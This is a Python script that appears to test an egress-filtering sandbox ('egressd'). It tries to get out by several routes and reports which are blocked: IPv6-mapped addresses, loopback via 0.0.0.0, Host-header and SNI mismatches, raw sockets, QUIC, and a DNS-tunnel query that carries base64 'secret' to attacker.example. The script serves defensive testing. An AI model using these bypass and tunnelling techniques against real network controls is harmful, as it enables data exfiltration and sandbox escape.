#!/usr/bin/env python3
"""What the sandboxed program tries; each line says what happened and why it matters."""
import errno
import http.client
import os
import socket
import ssl
import subprocess


def tcp(label, host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        greeting = s.recv(64).decode(errors="replace").strip()
        print(f"  ALLOWED  {label:<44} -> {greeting!r}")
    except OSError as e:
        print(f"  BLOCKED  {label:<44} -> {errno.errorcode.get(e.errno, e.errno)} ({e.strerror})")
    finally:
        s.close()


def http_get(label, connect_to, host, path="/"):
    conn = http.client.HTTPConnection(connect_to, 80, timeout=5)
    try:
        conn.request("GET", path, headers={"Host": host})
        r = conn.getresponse()
        body = r.read().decode(errors="replace").strip()
        verdict = "ALLOWED" if r.status == 200 else "DENIED "
        rule = r.getheader("X-Egressd-Rule")
        print(f"  {verdict}  {label:<44} -> {r.status} {body!r}" + (f" [rule: {rule}]" if rule else ""))
    except OSError as e:
        print(f"  BLOCKED  {label:<44} -> {errno.errorcode.get(e.errno, e.errno)} ({e.strerror})")
    finally:
        conn.close()


def https_get(label, url_host, host_header=None, cafile=None):
    # Without cafile: the default trust store, which `egressd run` pointed at the system
    # bundle plus the sandbox's CA (SSL_CERT_FILE).
    ctx = ssl.create_default_context(cafile=cafile)
    conn = http.client.HTTPSConnection(url_host, 443, timeout=5, context=ctx)
    try:
        conn.request("GET", "/", headers={"Host": host_header or url_host})
        issuer = dict(x[0] for x in conn.sock.getpeercert()["issuer"]).get("commonName")
        r = conn.getresponse()
        body = r.read().decode(errors="replace").strip()
        verdict = "ALLOWED" if r.status == 200 else "DENIED "
        print(f"  {verdict}  {label:<44} -> {r.status} {body!r} [cert by: {issuer}]")
    except ssl.SSLError as e:
        print(f"  BLOCKED  {label:<44} -> TLS: {e.reason}")
    except OSError as e:
        print(f"  BLOCKED  {label:<44} -> {errno.errorcode.get(e.errno, e.errno)} ({e.strerror})")
    finally:
        conn.close()


def attempt(label, fn):
    try:
        fn()
        print(f"  ALLOWED  {label}")
    except OSError as e:
        print(f"  BLOCKED  {label:<44} -> {errno.errorcode.get(e.errno, e.errno)} ({e.strerror})")


print("From inside the sandbox:")
tcp("database 198.18.200.3:5432 (allow rule)", "198.18.200.3", 5432)
tcp("same host, port 7000 (no rule)", "198.18.200.3", 7000)
tcp("denied host 198.18.200.4:5432 (deniedHosts)", "198.18.200.4", 5432)
tcp("same database via v4-mapped IPv6", "::ffff:198.18.200.4", 5432, socket.AF_INET6)
tcp("host loopback via 0.0.0.0:22", "0.0.0.0", 22)
print("HTTP, through egressd's proxy (port 80 is redirected in the kernel):")
http_get("http://api.demo.test/ (allowedHosts *.demo.test)", "api.demo.test", "api.demo.test")
http_get("http://tracker.ads.demo.test/ (deniedHosts glob)", "198.18.200.3", "tracker.ads.demo.test")
http_get("http://example.com/ (not in allowedHosts)", "198.18.200.3", "example.com")
http_get("Host: api.demo.test sent to 198.18.200.99", "198.18.200.99", "api.demo.test")
http_get("Host: other.demo.test (resolves to a denied IP)", "198.18.200.3", "other.demo.test")
print("HTTPS (proxied too; judged by SNI):")
origin_ca = os.environ.get("DEMO_ORIGIN_CA")
https_get("https://docs.demo.test/ (passthrough)", "docs.demo.test", cafile=origin_ca)
https_get("https://tracker.ads.demo.test/ (name denied: DNS)", "tracker.ads.demo.test", cafile=origin_ca)
https_get("https://api.demo.test/ (intercepted)", "api.demo.test")
https_get("  same TLS session, Host: docs.demo.test", "api.demo.test", "docs.demo.test")
print("Other paths out:")
attempt("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packet socket (seccomp)", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("UDP 443 (QUIC)", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("198.18.200.3", 443)))
print("  DNS: dig @198.18.200.99 api.demo.test (an address nobody serves; egressd answers):")
out = subprocess.run(["dig", "+short", "+time=2", "+tries=1", "@198.18.200.99", "api.demo.test"],
                     capture_output=True, text=True)
print("           answer:", out.stdout.strip() or out.stderr.strip())
print("  DNS: dig @198.18.200.99 c2VjcmV0.attacker.example (a tunnel; not an allowed name):")
out = subprocess.run(["dig", "+time=2", "+tries=1", "@198.18.200.99", "c2VjcmV0.attacker.example"],
                     capture_output=True, text=True)
status = [l for l in out.stdout.splitlines() if "status:" in l]
print("           answer:", (status[0].split("status: ")[1].split(",")[0] + " (from egressd; never "
                            "forwarded)") if status else out.stdout.strip() or out.stderr.strip())
